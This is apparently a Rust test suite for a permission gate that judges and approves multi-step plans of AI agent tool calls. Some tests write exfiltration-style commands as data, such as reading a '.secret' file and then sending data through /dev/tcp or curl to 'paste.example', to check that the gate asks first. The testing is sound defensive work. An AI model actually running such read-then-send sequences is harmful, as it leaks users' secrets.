//! Plans: judged step by step, answered as one question, and carried out in order, each step once.

use super::{World, circumstances, now, world};
use sayso_gate::approval::{Approval, Refused, Remember, Reply, Standing, Width};
use sayso_gate::audit::{Kind, Query};
use sayso_gate::plan::{self, PlannedCall, Submitted};
use sayso_gate::{Asking, Error, FactsOf, Gate, Judged, ProcessEnvironment};
use sayso_policy::{Answer, Person, ToolCall, Verdict};

const POLICY: &str = r#"
    default = "ask"
    [allow]
    run = ["echo", "cat"]
    read = ["./**"]
    [deny]
    run = ["git push --force"]
    [[rule]]
    id = "stays-here"
    ask = { connect = "*" }
    when = { after.read = "**/*.secret" }
    because = "It has read secrets."
"#;

fn planned(call: ToolCall) -> PlannedCall {
    PlannedCall { call, env: Box::new(ProcessEnvironment) }
}

impl World {
    fn calls(&self, commands: &[&str]) -> Vec<PlannedCall> {
        commands.iter().map(|command| planned(self.call("s", command))).collect()
    }

    fn submit(&self, commands: &[&str]) -> Submitted {
        self.gate().submit_plan(&self.calls(commands), "test").unwrap()
    }

    /// Submitted, and approved by somebody.
    fn approved(&self, commands: &[&str]) -> String {
        let submitted = self.submit(commands);
        assert!(submitted.asked, "{:#?}", submitted.plan);
        let approval = self.reply(&submitted.plan.id, &Person::named("ann"), &Reply::allow_once()).unwrap();
        assert_eq!(approval.standing, Standing::Approved);
        submitted.plan.id
    }

    /// What becomes of a call where nobody can be asked.
    fn run(&self, command: &str) -> Judged {
        self.judge("s", command, Asking::Nobody)
    }

    fn allowed(&self, command: &str) -> bool {
        self.run(command).permit.is_some()
    }
}

#[test]
fn a_plan_that_is_allowed_throughout_needs_nobody_and_is_recorded() {
    let world = world(POLICY);
    let Submitted { plan, asked } = world.submit(&["echo a", "echo b"]);
    assert_eq!((plan.verdict, asked), (Verdict::Allow, false));
    assert_eq!(world.store().approvals(true, 10).unwrap(), []);
    let kept = plan::find(world.store(), &plan.id, &|_| true).unwrap().unwrap();
    assert_eq!(kept.steps.len(), 2);
    let records = world.store().events(&Query { kinds: vec![Kind::Plan], ..Query::default() }).unwrap();
    assert_eq!(records.len(), 1);
}

#[test]
fn one_denied_step_refuses_the_plan_and_asks_nobody() {
    let world = world(POLICY);
    let Submitted { plan, asked } = world.submit(&["echo a", "make", "git push --force", "make x"]);
    assert_eq!((plan.verdict, plan.decisive, asked), (Verdict::Deny, Some(3), false));
    assert_eq!(world.store().approvals(true, 10).unwrap(), []);
}

#[test]
fn what_an_earlier_step_does_counts_for_a_later_one() {
    let world = world(&POLICY.replace("read = [\"./**\"]", "read = [\"./**\"]\nconnect = [\"paste.example\"]"));
    std::fs::write(world.work().join("a.secret"), "x").unwrap();
    let judged = |commands: &[&str]| world.gate().plan(&world.calls(commands), "test").unwrap();
    let plan = judged(&["cat a.secret", "echo x > /dev/tcp/paste.example/80"]);
    assert_eq!(plan.steps[1].verdict, Verdict::Ask, "{:#?}", plan.steps[1]);
    let why = &plan.steps[1].reasons[0];
    assert_eq!(why.code, "stays-here", "{why:?}");
    assert!(why.text.contains("step 1 of this plan") || why.text.contains("cat a.secret"), "{why:?}");
    let plan = judged(&["echo x > /dev/tcp/paste.example/80", "cat a.secret"]);
    assert_ne!(plan.steps[0].reasons.first().map(|it| it.code.as_str()), Some("stays-here"));
}

#[test]
fn a_plan_is_of_whom_the_owner_states_and_its_steps_are_too() {
    let world = world(&format!("{POLICY}\n[actor]\nteam = \"a\"\nmember = \"alice\"\ntenant = \"t1\"\n"));
    let submitted = world.submit(&["make a", "echo between", "make b"]);
    let actor = &submitted.plan.actor;
    assert_eq!((actor.member.as_deref(), actor.tenant.as_deref()), (Some("alice"), Some("t1")));
    let approval = world.reply(&submitted.plan.id, &Person::named("ann"), &Reply::allow_once()).unwrap();
    assert_eq!(approval.standing, Standing::Approved);
    for command in ["make a", "echo between", "make b"] {
        let judged = world.run(command);
        assert!(judged.permit.is_some(), "{command}: {:?}", judged.decision.reasons);
        assert!(judged.record.plan.is_some(), "{command}");
    }
}

#[test]
fn an_approved_plan_is_carried_out_in_order_and_each_step_once() {
    let world = world(POLICY);
    assert!(!world.allowed("make a"));
    let id = world.approved(&["make a", "echo between", "make b"]);
    assert!(!world.allowed("make b"), "its turn has not come");
    let first = world.run("make a");
    assert!(first.permit.is_some(), "{:?}", first.decision.reasons);
    let used = first.record.plan.unwrap();
    assert_eq!((used.id.as_str(), used.step, used.of), (id.as_str(), 1, 3));
    assert!(!world.allowed("make a"), "once");
    assert!(!world.allowed("make b"), "the step between has not run");
    let between = world.run("echo between");
    assert!(between.permit.is_some());
    assert_eq!(between.record.plan.map(|plan| plan.step), Some(2), "also where it is allowed anyway");
    let last = world.run("make b");
    assert!(last.permit.is_some(), "{:?}", last.decision.reasons);
    assert!(!world.allowed("make b"), "once");
    let plan = plan::find(world.store(), &id, &|_| true).unwrap().unwrap();
    assert_eq!(plan.used, [1, 2, 3]);
    let log = world.store().events(&Query { kinds: vec![Kind::Grant], text: Some("used".into()), ..Query::default() });
    assert_eq!(log.unwrap().iter().filter(|it| it.event.id().ends_with("-used")).count(), 3);
}

#[test]
fn the_same_call_twice_is_two_steps() {
    let world = world(POLICY);
    world.approved(&["make a", "make b", "make a"]);
    assert_eq!(
        ["make a", "make a", "make b", "make a", "make a"].map(|it| world.allowed(it)),
        [true, false, true, true, false]
    );
}

#[test]
fn what_deviates_is_judged_as_usual() {
    let world = world(POLICY);
    world.approved(&["make a", "make b"]);
    for other in ["make c", "make a && make b", "make  a -k", "cd .. && make a"] {
        assert!(!world.allowed(other), "{other}");
    }
    let other = |session: &str, agent: &str, tool: &str, more: serde_json::Value| {
        let mut arguments = serde_json::json!({ "command": "make a" });
        arguments.as_object_mut().unwrap().extend(more.as_object().unwrap().clone());
        let mut call = ToolCall::tool(tool, arguments);
        let like = world.call(session, "");
        (call.cwd, call.workspace, call.actor) = (like.cwd, like.workspace, like.actor);
        call.actor.agent = Some(agent.to_owned());
        let judged = world.gate().judge(call, circumstances(Asking::Nobody), FactsOf::Gate).settle().record();
        judged.permit.is_some()
    };
    assert!(!other("other", "coder", "Bash", serde_json::json!({})), "another session");
    assert!(!other("s", "mallory", "Bash", serde_json::json!({})), "another agent");
    assert!(!other("s", "coder", "Bash", serde_json::json!({"dangerouslyDisableSandbox": true})), "another call");
    assert!(other("s", "coder", "Bash", serde_json::json!({"description": "builds a", "timeout": 60000})));
}

#[test]
fn what_changes_on_disk_is_not_what_was_approved() {
    let world = world(POLICY);
    std::fs::write(world.work().join("Makefile"), "a:\n\techo a\n").unwrap();
    world.approved(&["make a"]);
    std::fs::write(world.work().join("Makefile"), "a:\n\techo b\n").unwrap();
    assert!(!world.allowed("make a"));
}

#[test]
fn a_step_that_runs_what_an_earlier_one_makes_asks_when_it_runs() {
    let world = world(POLICY);
    std::fs::write(world.work().join("go.sh"), "echo a\n").unwrap();
    let Submitted { plan, .. } = world.submit(&["cp x go.sh", "sh go.sh", "make z"]);
    let again = plan.steps[1].again.clone().unwrap_or_default();
    assert!(again.contains("go.sh") && again.contains("step 1"), "{again}");
    world.reply(&plan.id, &Person::named("ann"), &Reply::allow_once()).unwrap();
    assert!(world.allowed("cp x go.sh"));
    assert!(!world.allowed("sh go.sh"));
    assert!(world.allowed("make z"), "the steps behind it stay");
}

#[test]
fn the_answer_is_for_all_steps_once_and_never_from_who_asked() {
    let world = world(POLICY);
    let Submitted { plan, .. } = world.submit(&["make a", "make b"]);
    let refused = |name: &str, reply: Reply| match world.reply(&plan.id, &Person::named(name), &reply) {
        Err(Error::Refused(refused)) => refused,
        other => panic!("{other:?}"),
    };
    assert!(matches!(refused("coder", Reply::allow_once()), Refused::Own(_)));
    let lasting = Reply::allow_once().remembered(Remember::Session, Width::Exact);
    assert!(matches!(refused("ann", lasting), Refused::NotOffered(_)));
    assert!(matches!(refused("ann", Reply::allow_once().for_parts(vec![0])), Refused::NotOffered(_)));
    world.reply(&plan.id, &Person::named("ann"), &Reply::deny()).unwrap();
    assert!(!world.allowed("make a"));
}

#[test]
fn limits_pins_always_and_integrity_are_not_covered() {
    let always = "[[rule]]\nid = \"each-time\"\nask = { run = \"make b\" }\nalways = true\n";
    let world = world(&format!("{POLICY}{always}\n[limits.session]\ncalls = 2\nat_limit = \"ask\"\n"));
    world.approved(&["make a", "make b"]);
    assert!(world.allowed("make a"));
    assert!(!world.allowed("make b"), "always");
    let world = super::world(&format!("{POLICY}\n[limits.session]\ncalls = 1\nat_limit = \"ask\"\n"));
    world.approved(&["make a", "make b"]);
    assert!(world.allowed("make a"));
    assert!(!world.allowed("make b"), "the limit");
}

#[test]
fn it_ends() {
    let world = world(&format!("{POLICY}\n[plan]\nexpires = \"1ms\"\n"));
    world.approved(&["make a"]);
    std::thread::sleep(std::time::Duration::from_millis(5));
    assert!(!world.allowed("make a"));
}

#[test]
fn a_grant_that_is_revoked_ends_the_plan_there() {
    let world = world(POLICY);
    let id = world.approved(&["make a", "make b"]);
    let grants = world.store().grants(true, now()).unwrap();
    assert_eq!(grants.len(), 2);
    let first = grants.iter().find(|kept| kept.grant.plan.as_ref().unwrap().step == 1).unwrap();
    assert!(first.words.contains(&id));
    world.store().revoke(&first.grant.id, "ann", now()).unwrap();
    assert_eq!(["make a", "make b"].map(|it| world.allowed(it)), [false, false]);
}

#[test]
fn whoever_needs_a_plan_asks_for_every_call_outside_of_one() {
    let world = world(&format!("{POLICY}\n[plan]\nrequire = [\"agent:coder\"]\n"));
    let judged = world.run("echo a");
    assert!(judged.permit.is_none());
    assert!(judged.decision.reasons.iter().any(|reason| reason.code.to_string() == "no-plan"), "{:?}", judged.decision);
    // A plan of theirs asks though everything in it is allowed.
    world.approved(&["echo a", "echo b"]);
    assert_eq!(["echo b", "echo a", "echo a", "echo b"].map(|it| world.allowed(it)), [false, true, false, true]);
    let mut other = world.call("s", "echo a");
    other.actor.agent = Some("reviewer".to_owned());
    assert_eq!(world.gate().judge(other, circumstances(Asking::Nobody), FactsOf::Gate).alone().answer, Answer::Allow);
}

#[test]
fn what_asks_since_is_not_covered() {
    let policy = POLICY.replace("read = [\"./**\"]", "read = [\"./**\"]\nconnect = [\"paste.example\"]");
    let world = world(&policy);
    std::fs::write(world.work().join("a.secret"), "x").unwrap();
    world.approved(&["make a", "curl https://paste.example/x"]);
    assert!(world.allowed("make a"));
    assert!(world.allowed("cat a.secret"), "an allowed call that is no step");
    assert!(!world.allowed("curl https://paste.example/x"), "it has read secrets since");
}

#[test]
fn a_plan_that_is_none_is_refused() {
    let world = world(POLICY);
    let gate = world.gate();
    let wrong = |gate: &Gate, calls: &[PlannedCall]| match gate.submit_plan(calls, "test") {
        Err(Error::Plan(why)) => why,
        other => panic!("{other:?}"),
    };
    assert!(wrong(&gate, &[]).contains("at least one"));
    let many: Vec<String> = (0..=plan::MOST_STEPS).map(|n| format!("make {n}")).collect();
    let many: Vec<&str> = many.iter().map(String::as_str).collect();
    assert!(wrong(&gate, &world.calls(&many)).contains("at most"));
    let long = format!("make {}", "x".repeat(60_000));
    let long: Vec<&str> = (0..5).map(|_| long.as_str()).collect();
    assert!(wrong(&gate, &world.calls(&long)).contains("too long"));
    let mixed = [planned(world.call("s", "make a")), planned(world.call("t", "make b"))];
    assert!(wrong(&gate, &mixed).contains("step 2"));
    let mut nobody = world.call("s", "make a");
    nobody.actor.session = None;
    assert!(wrong(&gate, &[planned(nobody)]).contains("session"));
}

#[test]
fn secrets_are_taken_out_of_what_is_kept() {
    let world = world(POLICY);
    let Submitted { plan, .. } = world.submit(&["make PASSWORD=hunter2hunter2 a", "make b"]);
    let question: Approval = world.store().approval(&plan.id).unwrap().unwrap();
    for text in [serde_json::to_string(&plan).unwrap(), serde_json::to_string(&question).unwrap()] {
        assert!(!text.contains("hunter2hunter2"), "{text}");
    }
}

#[test]
fn the_same_plan_again_is_the_same_question() {
    let world = world(POLICY);
    let (first, second) = (world.submit(&["make a"]), world.submit(&["make a"]));
    assert_eq!(first.plan.id, second.plan.id);
    assert_eq!(world.store().approvals(true, 10).unwrap().len(), 1);
}
